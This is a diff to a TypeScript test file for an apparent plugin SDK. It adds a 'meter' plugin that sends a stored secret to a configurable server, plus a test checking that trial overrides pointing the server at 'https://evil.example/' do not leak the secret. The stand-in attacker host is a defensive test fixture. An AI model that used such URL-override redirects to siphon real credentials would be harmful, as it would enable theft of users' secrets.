@@ -1,7 +1,9 @@
 import type { OutboundFetch, OutboundOptions } from "platen/sdk"
-import { SECRETS } from "platen/sdk"
+import { definePlugin, secret, SECRETS, z } from "platen/sdk"
+import { defineSource, MODES, SOURCES } from "platen/sdk/mode"
 import { suite } from "uvu"
 import * as assert from "uvu/assert"
+import { numberMode } from "../editions/bars.js"
 import { openExtended } from "../editions/extended-stage.js"
 import type { Extended, ExtendedDevice, Person } from "../editions/extended-stage.js"
 
@@ -38,6 +40,37 @@ const request = (more: object = {}): object => ({
 })
 const numbers = (requests: readonly object[]): object => ({ NUMBERS: { requests, pick: PICK } })
 
+/** A mode whose secret stands at the top of its settings, and the source that sends it to the address beside it. */
+const meter = definePlugin({
+  id: "meter",
+  needs: { secrets: SECRETS },
+  setup: ({ secrets }) => [
+    SOURCES.of(
+      defineSource({
+        name: "meter",
+        parameters: z.strictObject({ server: z.string(), key: z.string(), unit: z.string() }),
+        result: z.number(),
+        cacheFor: 60,
+        dependsOn: [],
+        fetchesUserUrls: true,
+        read: async ({ server: address, key }, context) => {
+          await context.fetch(address, { headers: { authorization: key === "" ? "" : secrets.open(key) } })
+          return 1
+        },
+      }),
+    ),
+    MODES.of(
+      numberMode("METER", async ({ source, settings }) => Number(await source("meter", settings as Record<string, unknown>)), {
+        settings: z.strictObject({
+          server: z.string().default("https://meter.example/"),
+          key: secret().or(z.literal("")).default(""),
+          unit: z.enum(["W", "kW"]).default("W"),
+        }),
+      }),
+    ),
+  ],
+})
+
 let server: Extended
 let alice: Person
 let bob: Person
@@ -45,6 +78,7 @@ let screen: ExtendedDevice & { readonly owner: Person }
 test.before(async () => {
   server = await openExtended({
     fetch,
+    plugins: [meter],
     config: {
       "source-json": {
         connections: {
@@ -114,6 +148,28 @@ test("a member has no secret sent elsewhere, by a trial, a config or a playlist"
     calls.some(({ url }) => url.includes("evil")),
     "the address was asked, without the secret",
   )
+})
+
+test("a trial that leaves a secret out has it sent nowhere else either", async () => {
+  const settings = { server: "https://meter.example/", key: SECRET, unit: "W" }
+  await save({ modes: ["METER"], mode_overrides: { METER: settings } })
+  const tried = async (changed: object, who: Pick<Person, "headers">): Promise<void> => {
+    server.clock.advance(3_600_000)
+    calls.length = 0
+    await server.at(`/api/preview?persona=METER&mac=${screen.mac}&${override(changed)}`, { headers: who.headers })
+  }
+  await tried({ unit: "kW" }, alice)
+  assert.match(sent(), SECRET, "what goes nowhere else may be tried")
+  for (const who of [bob, alice, { headers: screen.headers }]) {
+    for (const changed of [
+      { server: "https://evil.example/" },
+      { server: "https://evil.example/", key: { set: true } },
+    ]) {
+      await tried(changed, who)
+      assert.match(sent(), "evil.example")
+      assert.not.match(sent(), /4711|sealed/)
+    }
+  }
 })
 
 test("nobody opens a sealed text that they have found", async () => {
